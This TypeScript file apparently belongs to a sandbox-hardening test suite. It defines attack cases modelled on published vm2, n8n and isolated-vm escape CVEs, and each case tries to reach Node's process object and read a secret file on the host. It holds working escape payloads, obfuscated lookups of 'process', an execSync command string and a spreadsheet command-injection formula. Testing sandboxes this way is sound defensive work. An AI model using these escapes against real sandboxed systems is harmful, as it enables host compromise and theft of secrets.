import type { Attack, AttackEnd } from "../attack.ts";

const PLAIN: readonly AttackEnd[] = [
  "value",
  "program_failed",
  "program_invalid",
  "cpu_limit",
  "timeout",
  "memory_limit",
];
const attack = (id: string, title: string, javascript: string, rest: Partial<Attack> = {}): Attack => ({
  id: `language-${id}`,
  group: "language",
  title,
  javascript: `const out = []; const aim = (it) => { try { const process = it.constructor.constructor("return process")(); return process.getBuiltinModule("node:fs").readFileSync(T.folder + "/secret.txt", "latin1"); } catch (e) { return e.name; } };\n${javascript}`,
  ends: PLAIN,
  ...rest,
});

/** Ways out of other sandboxes that made the news, each aimed at the secret of the host. */
export const LANGUAGE_CVE_ATTACKS: readonly Attack[] = [
  attack(
    "vm2-prepare-stack-trace",
    "An error from the host in an unhandled rejection (vm2, CVE-2023-29017)",
    `
    Error.prepareStackTrace = (error, sites) => { out.push(aim(sites), aim(error)); for (const site of sites) { try { out.push(aim(site.getThis()), aim(site.getFunction())); } catch {} } };
    (async () => {}).constructor("return process")().catch((e) => out.push(aim(e))); const later = async () => { const e = new Error(); e.name = Symbol(); return e.stack; };
    try { await later(); } catch (e) { out.push(aim(e)); } Error.prepareStackTrace = undefined; return out`,
  ),
  attack(
    "vm2-proxy-throws",
    "An exception from a trap that overflows the stack (vm2, CVE-2023-30547)",
    `
    const error = {}; const proxy = new Proxy(error, { getPrototypeOf() { (function deep() { new Error().stack; deep(); })(); } });
    try { throw proxy; } catch (e) { try { e.constructor; e instanceof Error; } catch (inner) { out.push(aim(inner)); } } return out`,
  ),
  attack(
    "vm2-proxy-spec",
    "A proxy inspected by the host with a forged trap (vm2, CVE-2023-32314)",
    `
    const error = new Error(); error.name = { toString: new Proxy(() => "", { apply(target, self, args) { out.push(aim(self), aim(args)); throw args.constructor; } }) };
    try { error.stack; String(error); } catch (e) { out.push(aim(e)); } console.log(error); return out`,
  ),
  attack(
    "vm2-promise-species",
    "Species of a promise that the host made (vm2, CVE-2023-37466)",
    `
    const promise = fixture.echo(1); promise.constructor = { [Symbol.species]: class { constructor(run) { run((x) => out.push(aim(x)), (x) => out.push(aim(x))); } } };
    promise.then(); fixture.refused().then.call(Object.assign(fixture.refused(), { constructor: promise.constructor }), () => 0); await fixture.echo(2); return out`,
  ),
  attack(
    "vm2-custom-inspect",
    "A custom inspection that is given the host's own inspect (vm2, CVE-2023-37903)",
    `
    const bait = { [Symbol.for("nodejs.util.inspect.custom")](depth, options, inspect) { out.push(aim(inspect ?? {}), aim(options ?? {}), aim(options?.stylize ?? {})); return ""; } };
    console.log(bait); console.error(bait); try { await fixture.echo(bait); } catch (e) { out.push(aim(e)); } return out`,
  ),
  attack(
    "vm2-async-then",
    "The promise of an async function, whose callbacks nobody cleans (vm2, CVE-2026-22709)",
    `
    const error = new Error(); error.name = Symbol(); const f = async () => error.stack; f().catch((e) => out.push(aim(e))); const p = (async () => { throw globalThis; })(); p.then(0, (e) => out.push(aim(e)));
    import("nothing").then(0, (e) => out.push(e.name)); await fixture.echo(1); return out`,
  ),
  attack(
    "vm2-host-error",
    "An error of the host thrown into the program (vm2, CVE-2022-36067)",
    `
    globalThis.OldError = Error; globalThis.Error = {}; globalThis.Error.prepareStackTrace = (error, sites) => { out.push(...sites.map(aim)); };
    const { stack } = new OldError(); globalThis.Error = OldError; try { new Array(-1); } catch (e) { out.push(aim(e)); } try { JSON.parse("{"); } catch (e) { out.push(aim(e)); } try { structuredClone(() => 0); } catch (e) { out.push(aim(e)); } try { new URL("x"); } catch (e) { out.push(aim(e)); } return out`,
  ),
  attack(
    "vm2-wasm-jspi",
    "Promises that WebAssembly makes in another realm (vm2 advisories of 2026)",
    `
    if (typeof WebAssembly === "undefined") return "none here"; for (const f of [() => WebAssembly.compile(new Uint8Array(1)), () => WebAssembly.instantiate(new Uint8Array(1)), () => WebAssembly.compileStreaming?.(0)]) { try { await f(); } catch (e) { out.push(aim(e)); } } return out`,
  ),
  attack(
    "vm2-buffers",
    "Methods of byte buffers that reach the host's pool",
    `
    const found = ["Buffer", "SlowBuffer"].map((name) => typeof globalThis[name]); const bytes = [new TextEncoder().encode("x"), crypto.getRandomValues(new Uint8Array(8))];
    for (const each of bytes) { out.push(aim(each), each.buffer.byteLength > 4096 ? "a pool of " + each.buffer.byteLength : "own"); } return [found, out]`,
  ),
  attack(
    "n8n-main-module",
    "this.process.mainModule of an expression (n8n, CVE-2025-68613)",
    `
    const tries = ["this.process.mainModule.require('child_process').execSync('id').toString()", "(function () { return this.process.mainModule.require('fs'); })()", "globalThis.process.binding('fs')", "constructor.constructor('return process')().env", "$input.constructor.constructor('return process')()", "module.constructor._load('fs')", "require('fs')"];
    for (const text of tries) { try { out.push(String((0, eval)(text)).slice(0, 200)); } catch (e) { out.push(e.name); } try { out.push(String(new Function("return " + text)()).slice(0, 200)); } catch (e) { out.push(e.name); } } return out`,
  ),
  attack(
    "n8n-with",
    "A with statement that hides a constructor (n8n, CVE-2026-1470)",
    `
    for (const text of ["with (function () {}) { return constructor('return process')() }", "with (console.log) { return constructor('return process')().env }", "with (Error) { return constructor('return this')().process }"]) { try { const made = new Function(text)(); out.push(typeof made); } catch (e) { out.push(e.name); } } return out`,
  ),
  attack(
    "n8n-names",
    "A name that filters do not read: escapes, computed and tagged",
    `
    for (const text of ["\\\\u0070rocess", "globalThis['pro' + 'cess']", "globalThis[String.fromCharCode(112,114,111,99,101,115,115)]", "Reflect.get(globalThis, 'process')", "(0, globalThis.eval)('process')", "[].constructor['const' + 'ructor']('return process')()", "(async()=>{}).constructor\`return process\`()", "Object.getOwnPropertyDescriptor(globalThis, 'process').value"]) { try { out.push(typeof (0, eval)(text)); } catch (e) { out.push(e.name); } } return out`,
  ),
  attack(
    "isolated-vm-cached-data",
    "Compiled code from the guest (isolated-vm, CVE-2022-39266)",
    `
    const vm = sys.load("node:vm"); const good = new vm.Script("1 + 1"); const data = good.createCachedData(); for (let i = 64; i < data.length; i += 7) data[i] ^= 0xff;
    try { const bad = new vm.Script("1 + 1", { cachedData: data }); out.push(bad.cachedDataRejected, bad.runInThisContext()); } catch (e) { out.push(e.name); }
    try { out.push(sys.load("node:v8").deserialize(sys.Buffer.from(data)).constructor.name); } catch (e) { out.push(e.name); } return out`,
    { breakout: true, ends: [...PLAIN, "sandbox_violation"] },
  ),
  attack(
    "engine-modules",
    "Modules of small engines: std, os, bjson",
    `
    for (const name of ["std", "os", "bjson", "qjs", "scriptArgs", "print", "loadScript", "evalScript", "navigator", "gc", "__loadScript", "InternalError", "wasi"]) { const it = globalThis[name]; if (it !== undefined) out.push(name + " " + typeof it); }
    return out.some((each) => /^(std|os|bjson|loadScript|evalScript)/.test(each)) ? { reached: out } : out`,
  ),
  attack(
    "jsonpath-expressions",
    "Calls hidden in what a library may evaluate: templates, replacers, tags",
    `
    const hits = []; "x".replace("x", () => hits.push(1)); String.raw({ raw: ["a", "b"] }, { toString: () => hits.push(2) }); [1].sort({ [Symbol.toPrimitive]: () => hits.push(3) }?.x); new Intl.NumberFormat?.("en")?.format?.({ valueOf: () => hits.push(4) });
    return fixture.echo({ template: "\${process.env}", handlebars: "{{constructor.constructor 'return process'}}", jsonpath: "$..[?(@.constructor.constructor('return process')())]", formula: "=cmd|' /C calc'!A0" })`,
    { ends: [...PLAIN] },
  ),
];
